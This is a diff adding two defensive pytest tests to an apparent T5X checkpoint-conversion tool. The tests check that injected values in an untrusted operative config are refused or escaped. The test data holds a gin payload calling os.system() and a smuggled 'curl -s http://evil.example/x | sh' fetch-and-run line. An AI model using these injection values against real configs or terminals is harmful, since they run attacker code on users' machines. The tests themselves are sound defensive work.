@@ -376,6 +376,38 @@ def test_task_gin_keeps_the_held_out_roots_the_model_trained_without(tmp_path):
     assert ("held_out" in task_gin) is expected
 
 
+def test_an_activation_that_is_no_name_is_refused_not_written_into_model_gin(tmp_path):
+  """model.gin names the activations: from a stranger's operative config, gin text in one would
+  run when T5X reads the file (a dynamic-registration `@os.system()`)."""
+  text = (test_utils.PRETRAINED / operative_config.FILE_NAME).read_text()
+  (tmp_path / operative_config.FILE_NAME).write_text(
+      text + "\nDenseReluDense.activation = "
+      "\"relu\\nfrom __gin__ import dynamic_registration\\nimport os\\nMODEL = @os.system()\"\n")
+  prefix = checkpoints.find_checkpoint(test_utils.PRETRAINED)
+  shapes = tf.train.load_checkpoint(prefix).get_variable_to_shape_map()
+  operative = operative_config.OperativeConfig.of_model_dir(tmp_path)
+  with pytest.raises(checkpoints.ConvertError) as error:
+    checkpoints.plan(shapes, prefix, True, operative)
+  assert str(error.value).startswith(f"{tmp_path / operative_config.FILE_NAME} binds "
+                                     "DenseReluDense.activation to 'relu\\nfrom _")
+  assert "\n" not in str(error.value)
+
+
+def test_what_convert_prints_of_the_model_dir_is_escaped(tmp_path, capsys):
+  """A root with a line break (from a stranger's operative config) would print a line of their
+  choosing right under the command the user copies."""
+  model = tmp_path / "model"
+  shutil.copytree(test_utils.PRETRAINED, model, ignore=shutil.ignore_patterns("runtime"))
+  config = model / operative_config.FILE_NAME
+  config.write_text(config.read_text().replace(
+      "flcc_dataset.root = '/work/data/sitepackages'",
+      "flcc_dataset.root = '/x\\n  curl -s http://evil.example/x | sh\\n'"))
+  assert cli.main(["convert", "--params-only", str(model), str(tmp_path / "out")]) == 0
+  out = capsys.readouterr().out
+  assert not any(line.lstrip().startswith("curl") for line in out.splitlines())
+  assert "'/x\\n  curl -s http://evil.example/x | sh\\n'" in out
+
+
 # ---------------------------------------------------------------- logits parity
 
 def _numpy_logits(model, checkpoint_dir, batch, targets, bidirectional_decoder_relpos=True):
